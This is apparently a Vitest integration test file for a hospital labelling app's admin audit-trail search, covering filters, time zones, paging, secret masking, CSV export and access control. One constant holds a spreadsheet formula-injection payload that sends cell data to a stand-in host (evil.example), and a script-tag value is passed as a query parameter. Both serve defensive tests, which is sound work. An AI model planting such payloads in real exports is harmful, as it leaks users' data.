import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditTrailEvents, establishments, labellingProcesses, users } from "#db/schema.ts";
import { seedFannProcess } from "#tests/support/fann-process.ts";
import { readPage, signedInAs, startTestServer, TestBrowser, type TestServer } from "#tests/support/server.ts";

// The DRI's search of the audit trail, over the demo with events of March and April 2020 added (before anything the
// demo records), so each search below knows exactly what it must find.
let server: TestServer;
let admin: TestBrowser;
const ids = { admin: "", fann: "", touba: "", fannPlace: "", toubaProcess: "", fannProcess: "" };
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const MARCH = "from=2020-03-01&to=2020-03-31";

beforeAll(async () => {
  server = await startTestServer({ seed: false });
  const { db } = server.database;
  const { processId: fannProcess, versionId } = await seedFannProcess(db);
  const idOf = async (email: string) => (await db.select({ id: users.id }).from(users).where(eq(users.email, email)))[0]!.id;
  ids.admin = await idOf("admin@label.example.org");
  ids.fann = await idOf("fann@label.example.org");
  ids.touba = await idOf("touba@label.example.org");
  const placeOf = async (shortName: string) => (await db.select({ id: establishments.id }).from(establishments).where(eq(establishments.shortName, shortName)))[0]!.id;
  ids.fannPlace = await placeOf("CNHU Fann");
  ids.fannProcess = fannProcess;
  const [touba] = await db.insert(labellingProcesses).values({ establishmentId: await placeOf("CHNCAK"), referentialVersionId: versionId }).returning({ id: labellingProcesses.id });
  ids.toubaProcess = touba!.id;
  await db.insert(auditTrailEvents).values([
    { at: new Date("2020-03-10T10:00:00Z"), actorUserId: ids.fann, action: "rating.save", entityType: "self_assessment_rating", entityId: `${ids.fannProcess}:1.1.1`, changes: { rating: { from: null, to: "met" } } },
    { at: new Date("2020-03-11T10:00:00Z"), actorUserId: ids.touba, action: "process.submit", entityType: "labelling_process", entityId: ids.toubaProcess },
    {
      at: new Date("2020-03-12T10:00:00Z"),
      actorUserId: ids.admin,
      action: "user.update",
      entityType: "user",
      entityId: ids.touba,
      changes: { name: { from: HOSTILE_NAME, to: "Awa Ndiaye" }, passwordHash: { from: "$argon2id$v=19$secret-old", to: "$argon2id$v=19$secret-new" }, notes: { from: null, to: "x".repeat(500) } },
    },
    // 23:30 UTC is already the 13th in Paris.
    { at: new Date("2020-03-12T23:30:00Z"), actorUserId: null, action: "auth.sign_in_failed", entityType: "user", entityId: ids.fann, changes: { reason: { from: null, to: "bad_password" } } },
    { at: new Date("2020-03-14T10:00:00Z"), actorUserId: ids.admin, action: "widget.frobnicate", entityType: "widget", entityId: HOSTILE_NAME },
    { at: new Date("2020-03-15T10:00:00Z"), actorUserId: ids.admin, action: "establishment.update", entityType: "establishment", entityId: ids.fannPlace, changes: { city: { from: "Dakar", to: "Dakar-Fann" } } },
    // 60 ratings in April, for the pages.
    ...Array.from({ length: 60 }, (_, i) => ({
      at: new Date(Date.UTC(2020, 3, 1, 8, i)),
      actorUserId: ids.touba,
      action: "rating.save",
      entityType: "self_assessment_rating",
      entityId: `${ids.toubaProcess}:1.1.${i + 1}`,
      changes: { rating: { from: null, to: "met" } },
    })),
  ]);
  admin = await signedInAs(server.baseUrl, "admin@label.example.org");
});
afterAll(async () => {
  await server?.close();
});

async function search(query: string, browser = admin) {
  const response = await browser.get(`/admin/audit-trail?${query}`);
  expect(response.status).toBe(200);
  const page = await readPage(response);
  return { page, actions: [...page.matchAll(/<tr data-action="([^"]+)"/g)].map((m) => m[1]) };
}

/** The query of the pager's link to the next or previous page. */
function pageLink(page: string, rel: "next" | "prev"): string | undefined {
  const anchor = new RegExp(`<a [^>]*rel="${rel}"[^>]*>`).exec(page)?.[0];
  return anchor ? /href="\/admin\/audit-trail\?([^"]*)"/.exec(anchor)?.[1] : undefined;
}

describe("the audit trail search", () => {
  it("finds what a person did and what concerns their account, by name or e-mail", async () => {
    expect((await search(`person=fann%40label.example.org&${MARCH}`)).actions).toEqual(["auth.sign_in_failed", "rating.save"]);
    expect((await search(`person=awa+ndiaye&${MARCH}`)).actions).toEqual(["user.update", "process.submit"]);
    expect((await search(`person=${ids.admin}&${MARCH}`)).actions).toEqual(["establishment.update", "widget.frobnicate", "user.update"]);
    expect((await search(`person=nobody-here&${MARCH}`)).page).toContain("Personne ne correspond à « nobody-here ».");
  });

  it("finds the events about an establishment's records and about one process's", async () => {
    expect((await search(`establishment=${ids.fannPlace}&${MARCH}`)).actions).toEqual(["establishment.update", "auth.sign_in_failed", "rating.save"]);
    expect((await search(`process=${ids.toubaProcess}&${MARCH}`)).actions).toEqual(["process.submit"]);
    expect((await search(`process=${ids.fannProcess}&${MARCH}`)).actions).toEqual(["rating.save"]);
  });

  it("filters by kind of event or one action, in words", async () => {
    const signIns = await search(`kind=auth&${MARCH}`);
    expect(signIns.actions).toEqual(["auth.sign_in_failed"]);
    expect(signIns.page).toContain("Échec de connexion");
    expect(signIns.page).toContain("Système ou inconnu");
    expect((await search(`kind=selfAssessment&${MARCH}`)).actions).toEqual(["rating.save"]);
    expect((await search(`kind=process.submit&${MARCH}`)).actions).toEqual(["process.submit"]);
    // A kind that does not exist is dropped rather than failing.
    expect((await search(`kind=%3Cscript%3E&${MARCH}`)).actions).toHaveLength(6);
  });

  it("reads the dates as days of the reader's time zone", async () => {
    expect((await search("from=2020-03-12&to=2020-03-12")).actions).toEqual(["user.update"]);
    const utc = new TestBrowser(server.baseUrl);
    utc.setCookie("tz", "UTC");
    await utc.login("admin@label.example.org");
    expect((await search("from=2020-03-12&to=2020-03-12", utc)).actions).toEqual(["auth.sign_in_failed", "user.update"]);
  });

  it("shows each event readably: unknown actions by name, secrets withheld, long values cut, links to the record", async () => {
    const { page } = await search(MARCH);
    expect(page).toContain("widget.frobnicate");
    expect(page).toContain("(masqué)");
    expect(page).not.toContain("secret-old");
    expect(page).not.toContain("x".repeat(200));
    expect(page).toContain(`href="/processes/${ids.fannProcess}/criteria/1.1.1"`);
    expect(page).toContain(`href="/admin/users/${ids.touba}"`);
    expect(page).toContain(`href="/cooperations/establishments/${ids.fannPlace}"`);
    expect(page).toContain("Cotation enregistrée");
    const english = await signedInAs(server.baseUrl, "admin@label.example.org", "en-GB");
    const inEnglish = await search(`kind=auth&${MARCH}`, english);
    expect(inEnglish.page).toContain("Failed sign-in");
    expect(inEnglish.page).toContain("Audit trail");
  });

  it("pages 50 events at a time, newest first, along the ids", async () => {
    const april = "kind=rating.save&from=2020-04-01&to=2020-04-30";
    const first = await search(april);
    expect(first.actions).toHaveLength(50);
    const older = pageLink(first.page, "next");
    expect(older).toContain("before=");
    expect(first.page).not.toContain('rel="prev"');
    const second = await search(older!);
    expect(second.actions).toHaveLength(10);
    expect(second.page).not.toContain('rel="next"');
    expect(second.page).toContain(`criteria/1.1.1"`);
    const newer = pageLink(second.page, "prev");
    expect(newer).toContain("after=");
    expect((await search(newer!)).actions).toHaveLength(50);
  });

  it("exports the search as CSV with a byte-order mark and formulas made harmless", async () => {
    const response = await admin.get(`/admin/audit-trail.csv?${MARCH}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toContain("attachment");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.split("\r\n")[0]).toContain("id;date (UTC);");
    expect(text).toContain(`'${HOSTILE_NAME.replaceAll('"', '""')}`);
    expect(text).not.toMatch(/[;\n]"?=HYPERLINK/);
    expect(text).not.toContain("secret-old");
    expect(text).toContain("widget.frobnicate");
    expect(text.trim().split("\r\n").length).toBeGreaterThanOrEqual(7);
  });

  it("is the DRI's alone: 403 for hospital staff and auditors, the login page for a visitor", async () => {
    for (const email of ["fann@label.example.org", "auditeur@label.example.org"]) {
      const someone = await signedInAs(server.baseUrl, email);
      expect((await someone.get("/admin/audit-trail")).status).toBe(403);
      expect((await someone.get(`/admin/audit-trail.csv?${MARCH}`)).status).toBe(403);
    }
    const visitor = new TestBrowser(server.baseUrl);
    for (const path of ["/admin/audit-trail", "/admin/audit-trail.csv"]) {
      const response = await visitor.get(path);
      expect(response.status).toBe(302);
      expect(response.headers.get("location")).toMatch(/^\/login/);
    }
  });
});
